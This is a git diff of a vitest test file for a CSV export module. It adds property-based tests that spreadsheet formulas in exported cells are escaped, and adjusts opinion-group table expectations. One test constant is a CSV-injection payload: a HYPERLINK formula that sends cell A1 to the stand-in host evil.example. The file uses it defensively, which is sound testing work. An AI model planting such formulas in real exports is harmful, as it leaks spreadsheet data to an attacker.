@@ -1,7 +1,7 @@
 import { parse } from "csv-parse/sync";
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
-import { csvField, csvRecords } from "~/exports/csv";
+import { csvField, csvRecords, FORMULA_ESCAPE } from "~/exports/csv";
 import { parseEnv } from "~/env.server";
 import { opinionGroupRows, opinionStatementRows, type StoredAnalysis } from "~/exports/opinion-tables";
 import { participantKey, participantKeys } from "~/exports/participant-key.server";
@@ -35,6 +35,39 @@ describe("csvRecords", () => {
       ]),
     ).toBe('a,1,true,\r\n"say ""hi""","x,y","two\nlines",false\r\n');
     expect(csvField("plain text")).toBe("plain text");
+  });
+});
+
+describe("CSV formula escaping (decision 0008)", () => {
+  const attack = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")';
+
+  it("escapes a cell a spreadsheet would read as a formula, only when asked", () => {
+    expect(csvField(attack)).toBe('"=HYPERLINK(""https://evil.example/?leak=""&A1,""Details"")"');
+    expect(csvField(attack, { escapeFormulas: true })).toBe(
+      `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Details"")"`,
+    );
+    for (const start of ["=", "+", "-", "@", "\t", "\r"]) {
+      expect(csvField(`${start}1+1`, { escapeFormulas: true }).replace(/^"/, "")).toMatch(/^'/);
+    }
+    // Numbers are typed values, never text a spreadsheet evaluates: -3 stays -3.
+    expect(csvRecords([[-3, "- a list item", "a-b"]], { escapeFormulas: true })).toBe("-3,'- a list item,a-b\r\n");
+  });
+
+  it("property: no escaped text cell starts a formula, and taking the mark off gives the text back", () => {
+    const text = fc.oneof(
+      fc.string({ unit: "binary" }),
+      fc.tuple(fc.constantFrom("=", "+", "-", "@", "\t", "\r"), fc.string()).map(([a, b]) => a + b),
+    );
+    fc.assert(
+      fc.property(fc.array(text, { minLength: 1, maxLength: 6 }), (row) => {
+        const [parsed] = parse(csvRecords([row], { escapeFormulas: true }), { record_delimiter: "\r\n" }) as string[][];
+        parsed!.forEach((cell, i) => {
+          expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+          const original = row[i]!;
+          expect(/^[=+\-@\t\r]/.test(original) ? FORMULA_ESCAPE + original : original).toBe(cell);
+        });
+      }),
+    );
   });
 });
 
@@ -100,9 +133,9 @@ describe("opinion-group tables", () => {
 
   it("gives each group's size and share, with a total row", () => {
     expect(opinionGroupRows(analysis([group("A", 30), group("B", 10)]), 5)).toEqual([
-      { opinion_group: "A", participants: 30, share: 0.75, computed_at: "2026-03-01T10:00:00.000Z" },
-      { opinion_group: "B", participants: 10, share: 0.25, computed_at: "2026-03-01T10:00:00.000Z" },
-      { opinion_group: "all", participants: 40, share: 1, computed_at: "2026-03-01T10:00:00.000Z" },
+      { opinion_group: "A", participants: 30, share: 0.75, computed_at: "2026-03-01T10:00:00Z" },
+      { opinion_group: "B", participants: 10, share: 0.25, computed_at: "2026-03-01T10:00:00Z" },
+      { opinion_group: "all", participants: 40, share: 1, computed_at: "2026-03-01T10:00:00Z" },
     ]);
   });
 
@@ -110,7 +143,8 @@ describe("opinion-group tables", () => {
     const rows = opinionGroupRows(analysis([group("A", 20), group("B", 12), group("C", 3)]), 5);
     expect(rows.map((r) => [r.opinion_group, r.participants, r.share])).toEqual([
       ["A", 20, 20 / 35],
-      ["B", "<5", null],
+      // B is hidden only so that C cannot be worked out from the total: "withheld", not "<5".
+      ["B", "withheld", null],
       ["C", "<5", null],
       ["all", 35, 1],
     ]);
